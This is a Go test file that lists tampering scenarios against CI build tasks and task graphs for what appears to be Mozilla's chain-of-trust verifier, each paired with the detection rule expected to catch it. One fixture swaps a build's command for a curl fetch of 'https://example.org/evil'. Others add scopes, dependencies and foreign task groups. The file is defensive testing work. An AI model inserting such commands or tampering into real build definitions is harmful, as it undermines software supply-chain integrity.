package main

import (
	"time"

	"github.com/mozilla-releng/cot/fixtures"
	"github.com/mozilla-releng/cot/trace"
)

// inEntry changes the build's entry in the task graph alone.
func inEntry(edit func(entry fixtures.Object)) func(*chain) {
	return func(c *chain) { c.build.Entry.Edit = edit }
}

// stranger is a decision task of another revision.
func (c *chain) stranger() *fixtures.Task {
	if c.gitHub() {
		for _, t := range []*fixtures.Target{c.world.ReleasesPush, c.world.Merged} {
			if t.Decision.Graph().Origin.Revision != c.origin().Revision {
				return t.Decision
			}
		}
	}
	return c.world.Central.Push("Bug 1900030 - another revision r=ten").Decision()
}

var graphAttacks = []attack{
	{name: "a build that is in no task graph", on: inGraph, edit: func(c *chain) { c.build.Entry.Hidden = true }, rules: rules(trace.RuleNotInTaskGraph)},
	{
		name: "a build with another command", on: inGraph,
		edit:  definition(func(d fixtures.Object) { object(d, "payload")["command"] = []any{"curl", "https://example.org/evil"} }),
		rules: rules(trace.RuleDiffersFromTaskGraph),
	},
	{
		name: "a build with another variable", on: inGraph,
		edit:  definition(func(d fixtures.Object) { object(d, "payload", "env")["EVIL"] = "1" }),
		rules: rules(trace.RuleDiffersFromTaskGraph),
	},
	{
		name: "a build with another scope", on: inGraph,
		edit:  definition(func(d fixtures.Object) { d["scopes"] = added(d["scopes"], "assume:mallory") }),
		rules: rules(trace.RuleDiffersFromTaskGraph),
	},
	{
		name: "a build with keys that its entry lacks", on: inGraph,
		edit: inEntry(func(e fixtures.Object) {
			delete(object(e, "task"), "routes")
			delete(object(e, "task"), "tags")
		}),
		rules: rules(trace.RuleDiffersFromTaskGraph),
		why:   "scriptworker compares the entry's keys and never looks for others in the task",
	},
	{
		name: "a build with another `requires`", on: inGraph,
		edit: definition(func(d fixtures.Object) { d["requires"] = "all-resolved" }), rules: rules(trace.RuleDiffersFromTaskGraph),
		why: "a task that starts after failed inputs is not the one that the graph asked for",
	},
	{
		name: "a build with another deadline", on: inGraph,
		edit: definition(func(d fixtures.Object) { d["deadline"] = "2030-01-01T00:00:00.000Z" }), rules: rules(trace.RuleDiffersFromTaskGraph),
		why: "the entry says how long the task may take; scriptworker skips every time",
	},
	{
		name: "a build in a foreign task group", on: inGraph,
		edit: func(c *chain) { c.build.Definition["taskGroupId"] = c.stranger().ID }, rules: rules(trace.RuleDiffersFromTaskGraph),
		why: "the group decides who may schedule and what is shown where; scriptworker takes it for the decision task and compares nothing with it",
	},
	{
		name: "a build that another decision task is said to have made", on: inGraph,
		edit: func(c *chain) {
			other := c.stranger().ID
			c.build.Definition["taskGroupId"] = other
			object(c.build.Definition, "extra")["parent"] = other
		},
		rules: rules(trace.RuleNotInTaskGraph),
	},
	{
		name: "a build that a task like any other is said to have made", on: all(inGraph, docker),
		edit:  definition(func(d fixtures.Object) { object(d, "extra")["parent"] = object(d, "payload", "image")["taskId"] }),
		rules: rules(trace.RuleDecisionPool),
	},
	{
		name: "a build with another dependency", on: inGraph,
		edit:  definition(func(d fixtures.Object) { d["dependencies"] = added(d["dependencies"], "AAAAAAAAQAAAAAAAAAAAAA") }),
		rules: rules(trace.RuleUndeclaredDependency),
	},
	{
		name: "a build without its dependencies", on: all(inGraph, docker), edit: definition(func(d fixtures.Object) { d["dependencies"] = []any{} }),
		rules: rules(trace.RuleUndeclaredDependency),
		why:   "it runs before its inputs are there, and takes what is; scriptworker lets dependencies be fewer",
	},
	{
		name: "a build created long after its parent ran", on: inGraph,
		edit: func(c *chain) {
			c.build.Recreate(c.parent().Last().Resolved.Add(24 * time.Hour))
		},
		rules: rules(trace.RuleDiffersFromTaskGraph),
		why:   "an old graph could adopt new tasks for ever; scriptworker skips every time",
	},
	{
		name: "a task graph that storage changed",
		edit: func(c *chain) {
			c.parent().Artifact(trace.TaskGraphName).EditStored = func(b []byte) []byte { return append(b, '\n') }
		},
		rules: rules(trace.RuleArtifactHash),
	},
	{
		name: "a task graph that no document vouches for", edit: func(c *chain) { c.parent().Artifact(trace.TaskGraphName).Unhashed = true },
		rules: rules(trace.RuleArtifactNotInCot),
	},
	{
		name: "a task graph that is not JSON",
		edit: func(c *chain) {
			c.parent().Artifact(trace.TaskGraphName).Content = fixtures.Bytes([]byte(`{"a"`))
		},
		rules: rules(trace.RuleNotInTaskGraph),
	},
}
